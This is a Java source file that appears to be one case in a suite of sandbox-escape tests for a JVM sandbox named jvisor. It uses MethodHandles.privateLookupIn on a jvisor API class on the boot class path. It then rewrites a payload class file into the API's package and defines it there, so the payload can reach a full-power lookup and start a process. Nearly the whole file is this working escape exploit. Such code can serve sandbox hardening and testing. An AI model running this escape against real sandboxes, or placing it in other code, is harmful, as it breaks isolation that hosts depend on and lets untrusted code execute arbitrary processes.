package escape.hypervisor;

import java.io.InputStream;
import java.lang.invoke.MethodHandles;
import java.nio.charset.StandardCharsets;
import java.util.function.Function;

/**
 * Takes a private lookup in a class of jvisor's API, which lies on the JVM's boot class path (in
 * the bootstrap loader's unnamed module, open to every module), and defines a class there: the
 * bootstrap loader's class, which a sandbox takes for the JDK's, is left as it is and reads the
 * JDK's lookup of full power to start a process (the payload of {@code class-module-layer-loader},
 * moved into the API's package). Without jvisor there is no such class and nothing happens.
 *
 * <p>Source: JDK API, {@code MethodHandles.privateLookupIn} and {@code Lookup.defineClass},
 * https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/lang/invoke/MethodHandles.html
 */
public final class ApiPrivateLookup {

    private static final String PAYLOAD = "escape/classes/layered/Payload";
    /** The payload's name in the API's package: as long as its own, so that its class file is patched in place. */
    private static final String MOVED = "io/jvisor/api/PayloadOfEscapes";

    private ApiPrivateLookup() {
    }

    public static void main(String[] args) {
        try {
            Class<?> api = Class.forName("io.jvisor.api.Quotas");
            MethodHandles.Lookup lookup = MethodHandles.privateLookupIn(api, MethodHandles.lookup());
            byte[] payload;
            try (InputStream in = ApiPrivateLookup.class.getResourceAsStream("/" + PAYLOAD + ".class")) {
                payload = in.readAllBytes();
            }
            String classFile = new String(payload, StandardCharsets.ISO_8859_1).replace(PAYLOAD, MOVED);
            @SuppressWarnings("unchecked")
            Function<String, String> run = (Function<String, String>) lookup.defineClass(classFile.getBytes(StandardCharsets.ISO_8859_1))
                    .getConstructor().newInstance();
            System.out.println("hypervisor-api-private-lookup: " + run.apply(args[0]));
        } catch (ClassNotFoundException e) {
            System.out.println("hypervisor-api-private-lookup: no jvisor here (" + e.getMessage() + ")");
        } catch (Throwable t) {
            System.out.println("hypervisor-api-private-lookup: " + t);
        }
    }
}
